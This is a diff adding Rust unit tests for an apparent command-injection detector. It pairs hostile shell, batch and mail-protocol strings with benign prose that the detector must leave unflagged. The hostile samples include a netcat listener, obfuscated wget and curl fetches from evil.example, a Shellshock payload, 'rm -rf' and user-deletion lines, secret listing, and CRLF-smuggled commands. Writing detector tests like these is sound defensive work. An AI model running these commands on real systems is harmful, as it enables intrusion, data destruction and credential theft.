@@ -125,3 +125,82 @@ fn prose_about_shells_is_clean() {
         ],
     );
 }
+
+#[test]
+fn windows_batch_conditions() {
+    assert_found_everywhere(
+        Category::Cmdi,
+        &[
+            "IF EXIST C:\\temp\\x.bat CALL C:\\temp\\x.bat",
+            "if /i \"%USERNAME%\"==\"admin\" del /q C:\\data",
+            "if %ERRORLEVEL% GEQ 1 exit /b 1",
+            "IF NOT DEFINED TEMP (",
+            "x & if [%2]==[] goto usage",
+            "FOR /F %%f IN (users.txt) DO net user %%f /delete",
+        ],
+    );
+}
+
+#[test]
+fn wrappers_splices_and_command_lines() {
+    assert_found_everywhere(
+        Category::Cmdi,
+        &[
+            "nohup nc -lvp 4444",
+            "sudo -u www-data id",
+            "'w'get http://evil.example/a.sh",
+            "wh``oami",
+            "who$()ami",
+            "cu$@rl http://evil.example/x",
+            "c{a,u}t /etc/hosts",
+            "{,uname,-a}",
+            "alias ls='rm -rf /'",
+            "() { :; }; /bin/bash -c id",
+            "pip install evil-package",
+            "kubectl get secrets -A",
+            "x;htop",
+            "$SHELL -c 'id'",
+            "a;$x cat /etc/hosts",
+            "python3.11 -c 'import os'",
+        ],
+    );
+}
+
+#[test]
+fn mail_protocol_commands_after_crlf() {
+    assert_found_everywhere(
+        Category::Cmdi,
+        &[
+            "x\r\nQUIT",
+            "x\r\nRETR 2",
+            "x\r\nA7 store 1:3 +FLAGS (\\Deleted)\r\n",
+        ],
+    );
+}
+
+#[test]
+fn prose_near_new_grammar_is_clean() {
+    assert_clean(
+        Category::Cmdi,
+        &[
+            "if you want, == is the equality operator",
+            "if x == y then return",
+            "if (a == b) { return; }",
+            "If exists, we will call you back.",
+            "Python developer jobs in Berlin",
+            "python developer jobs",
+            "docker tutorial for beginners",
+            "time management tips",
+            "nice cat pictures",
+            "watch top movies",
+            "alias: John Smith",
+            "~5 minutes",
+            "Help\r\nThanks",
+            "Pick one of {x,y} or {a,b}",
+            "time who knows",
+            "Time: 5 minutes; top speed 30 km/h",
+            "```sh\ncargo build --release\n```",
+            "see `cargo fmt` and `cargo clippy`",
+        ],
+    );
+}
